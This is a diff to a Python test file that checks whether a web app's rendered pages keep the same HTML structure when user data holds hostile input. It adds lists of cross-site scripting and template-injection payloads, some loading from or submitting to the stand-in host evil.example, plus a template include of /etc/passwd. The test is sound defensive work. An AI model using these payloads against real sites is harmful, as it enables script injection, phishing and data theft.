@@ -56,6 +56,65 @@ ALL_IN_ONE = (
     "\"'`></title></textarea></select></style>--><script>1</script><svg onload=1>{{7*7}}&lt;b&gt;\r\n\u2028\u202e"
 )
 LONG = os.environ.get("WELLKEPT_LONG") == "1"
+ENDS = (
+    "",
+    '"',
+    "'",
+    "`",
+    ">",
+    '">',
+    "'>",
+    "-->",
+    "]]>",
+    "</title>",
+    "</textarea>",
+    "</script>",
+    "</style>",
+    "\n",
+    "\x1f",
+)
+BEGINS = (
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example></sCrIpT>",
+    "<script/x>alert(1)</script>",
+    "<<script>alert(1)//<</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img/src='x'/onerror='alert(1)'>",
+    "<svg/onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x>",
+    "<svg><use href='data:image/svg+xml,<svg/>#x'>",
+    "<iframe src=javascript:alert(1)>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=//evil.example>",
+    "<video><source onerror=alert(1)>",
+    "<audio src onloadstart=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<body onload=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<a href=javascript:alert(1)>here</a>",
+    "<a href=data:text/html,<script>alert(1)</script>>here</a>",
+    "<form action=//evil.example><button>Sign in</button></form>",
+    "<button formaction=javascript:alert(1)>Go</button>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<base href=//evil.example>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<style>*{background:url(//evil.example)}</style>",
+    "<div style=width:expression(alert(1))>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<math><mi xlink:href=javascript:alert(1)>here</mi></math>",
+    "<plaintext>",
+    "<xmp><img src=x onerror=alert(1)></xmp>",
+    "{{constructor.constructor('alert(1)')()}}",
+    "{% include '/etc/passwd' %}<%= 7*7 %>#{7*7}",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\\u003cscript\\u003ealert(1)",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+)
+FIELDS = 140  # at least as many texts stand in a world
+COMPOSED = tuple(end + begin for end in ENDS for begin in BEGINS)
 FORMULAS = (
     "=1+1",
     "+1",
@@ -100,9 +159,9 @@ def plain(canary: Canary) -> str:
     return str(canary)
 
 
-def its_words(canary: Canary) -> str:
-    """The words of `all_in_one` alone: what pages make of words is the same."""
-    return f"{canary} {' '.join(re.findall(r'[a-z]+', ALL_IN_ONE))}"
+def words_alone(words: Callable[[Canary], str]) -> Callable[[Canary], str]:
+    """The same words without any sign between them: what pages make of words is the same."""
+    return lambda canary: f"{canary} {' '.join(re.findall(r'[A-Za-z]+', words(canary).removeprefix(str(canary))))}"
 
 
 def all_in_one(canary: Canary) -> str:
@@ -115,6 +174,16 @@ def nasty(canary: Canary, turn: int = 0) -> str:
 
 def formula(canary: Canary) -> str:
     return f"{FORMULAS[canary.number % len(FORMULAS)]}{canary}"
+
+
+def composed(canary: Canary, turn: int) -> str:
+    return f"{canary}{COMPOSED[(canary.number + turn) % len(COMPOSED)]}"
+
+
+def _turns() -> list[Callable[[Canary], str]]:
+    """Every nasty text in every field, and every composed one in some."""
+    every = [partial(nasty, turn=turn) for turn in range(len(NASTY))]
+    return [*(partial(composed, turn=turn) for turn in range(0, len(COMPOSED), FIELDS)), *every]
 
 
 World = Callable[[Callable[[Canary], str]], TwoFirms]
@@ -162,9 +231,8 @@ def pages(world: TwoFirms, role: str) -> dict[str, str]:
 @pytest.mark.parametrize("role", ["admin", "member_a"])
 def test_no_element_and_no_attribute_comes_from_data(world_of: World, role: str) -> None:
     """Every page has the same skeleton, whether its words are plain or nasty."""
-    turns = [(plain, partial(nasty, turn=turn)) for turn in range(len(NASTY))] if LONG else []
-    for calm_words, words in ((its_words, all_in_one), *turns):
-        calm = {url: Skeleton(body) for url, body in pages(world_of(calm_words), role).items()}
+    for words in (all_in_one, *(_turns() if LONG else ())):
+        calm = {url: Skeleton(body) for url, body in pages(world_of(words_alone(words)), role).items()}
         wild = pages(world_of(words), role)
         assert calm.keys() == wild.keys()
         shown: set[Canary] = set()
